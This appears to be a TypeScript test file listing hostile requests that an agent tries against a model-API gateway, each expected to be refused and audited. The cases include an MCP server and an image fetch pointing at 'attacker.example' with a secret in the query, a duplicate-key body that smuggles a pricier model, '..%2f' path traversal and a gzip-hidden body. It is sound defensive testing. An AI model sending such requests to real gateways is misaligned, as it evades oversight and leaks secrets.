/** Hostile acts at the model gateway. */
import { gzipSync } from 'node:zlib';
import type { Act } from '../agent.ts';

const PLAIN = { model: 'gpt-5.5', input: [{ role: 'user', content: 'Hello' }], stream: false };

function ask(
  name: string,
  refused: RegExp,
  body: unknown,
  {
    method = 'POST',
    path = '/responses',
    headers = {},
  }: { method?: string; path?: string; headers?: Record<string, string> } = {},
): Act {
  return {
    name,
    at: 'model',
    as: 'dev',
    audited: 'gateway.refused',
    refused,
    attempt: async (agent) =>
      agent.ask(method, `/model/v1${path}`, { ...(body === undefined ? {} : { body }), headers }),
  };
}

export const MODEL_ACTS: readonly Act[] = [
  ask("has the model's provider search the web", /^400 /, { ...PLAIN, tools: [{ type: 'web_search' }] }),
  ask("runs code at the model's provider", /^400 /, {
    ...PLAIN,
    tools: [{ type: 'code_interpreter', container: { type: 'auto' } }],
  }),
  ask('has the provider call an MCP server of its own', /^400 /, {
    ...PLAIN,
    tools: [{ type: 'mcp', server_label: 'x', server_url: 'https://attacker.example' }],
  }),
  ask('asks for another, dearer model', /^400 /, { ...PLAIN, model: 'gpt-5.5-pro' }),
  ask('names two models in one body', /^400 /, '{"model":"gpt-5.5","input":"x","model":"gpt-5.5-pro"}'),
  ask('goes on in the background', /^400 /, { ...PLAIN, background: true }),
  ask('uses a prompt that the account stores', /^400 /, { ...PLAIN, prompt: { id: 'pmpt_1' } }),
  ask('goes on with a response that the account stores', /^400 /, { ...PLAIN, previous_response_id: 'resp_1' }),
  ask('has the provider fetch an address', /^400 /, {
    ...PLAIN,
    input: [{ role: 'user', content: [{ type: 'input_image', image_url: 'https://attacker.example/?q=secret' }] }],
  }),
  ask('reads a file of the account', /^400 /, {
    ...PLAIN,
    input: [{ role: 'user', content: [{ type: 'input_file', file_id: 'file-1' }] }],
  }),
  ask("lists the account's files", /^404 /, undefined, { method: 'GET', path: '/files' }),
  ask('reads another path of the API by dots', /^404 /, undefined, { method: 'GET', path: '/models/..%2ffiles' }),
  ask('hides its body in a compression', /^415 /, new Uint8Array(gzipSync(JSON.stringify(PLAIN))), {
    headers: { 'content-encoding': 'gzip' },
  }),
  ask('sends what is no JSON', /^400 /, '{"model":'),
];
